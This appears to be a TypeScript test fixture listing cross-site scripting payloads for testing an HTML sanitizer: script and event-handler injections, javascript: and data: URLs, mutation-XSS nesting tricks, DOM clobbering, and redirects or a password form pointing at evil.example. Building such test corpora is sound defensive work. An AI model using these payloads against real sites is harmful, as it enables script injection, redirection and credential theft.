import { hostileTexts } from './json-values.ts';

/** Markup that tries to run, to lead away, to send elsewhere, or to be read in two ways. */
export const attacks: readonly string[] = [
  ...hostileTexts,
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="https://x.example" onclick="alert(1)" id="location" name="forms">x</a>',
  '<b/onmouseover=alert(1)>x</b>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<form id=a><form id=b><input name=attributes>',
  '<base href="//evil.example/"><link rel=stylesheet href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<object data="javascript:alert(1)"><embed src="javascript:alert(1)">',
  '<textarea><img title="</textarea><img src onerror=alert(1)>">',
  '<xmp><p title="</xmp><script>alert(1)</script>">',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<template><script>alert(1)</script></template>',
];

/** Where in a text an attack may stand. */
export const attackPlaces: readonly ((attack: string) => string)[] = [
  (attack) => attack,
  (attack) => `<p>${attack}</p>`,
  (attack) => `<a href="${attack}">x</a>`,
  (attack) => `<a href='${attack}'>x</a>`,
  (attack) => `<b ${attack}>x</b>`,
  (attack) => `<!-- ${attack} -->`,
  (attack) => `<svg><desc>${attack}</desc></svg>`,
  (attack) => `<math><annotation-xml encoding="text/html">${attack}`,
  (attack) => `<select><option>${attack}`,
  (attack) => attack.replace(/</g, '&lt;'),
  (attack) => attack.toUpperCase(),
  (attack) => attack.replace(/</g, '<\u0000'),
  (attack) => `<table><tr>${attack}`,
];

/** What page data must never bring into a page, each in the plainest form in which it works without a policy. */
export const payloads: readonly string[] = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><script>alert(1)</script>',
  `'><svg onload=alert(1)>`,
  '" onfocus="alert(1)" autofocus x="',
  `' onmouseover='alert(1)`,
  '</script></title></style></textarea></noscript><script>alert(1)</script>',
  'javascript:alert(1)',
  '<a href="javascript:alert(1)">x</a><a href="&#106;avascript:alert(1)">x</a>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example/"><input name="password"><button formaction="https://evil.example/">x</button></form>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe><iframe src="javascript:alert(1)"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object><embed src="//evil.example/x.swf">',
];
